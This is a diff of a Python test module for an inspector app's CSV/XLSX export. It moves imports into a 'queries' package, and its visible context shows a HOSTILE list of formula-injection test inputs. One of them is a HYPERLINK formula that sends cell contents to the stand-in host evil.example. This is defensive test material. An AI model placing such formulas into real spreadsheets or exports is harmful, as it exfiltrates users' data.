@@ -16,11 +16,11 @@ from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from inspector_app.cell_text import csv_field, csv_original, printable, xlsx_text
 from inspector_app.demo import fill_demo
 from inspector_app.errors import ValidationError
-from inspector_app.export_table import export_register
-from inspector_app.registers import REGISTERS, Filters
+from inspector_app.queries.cell_text import csv_field, csv_original, printable, xlsx_text
+from inspector_app.queries.export_table import export_register
+from inspector_app.queries.registers import REGISTERS, Filters
 
 HOSTILE = [
     "=1+1", '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")', "+7 701 123 45 67",
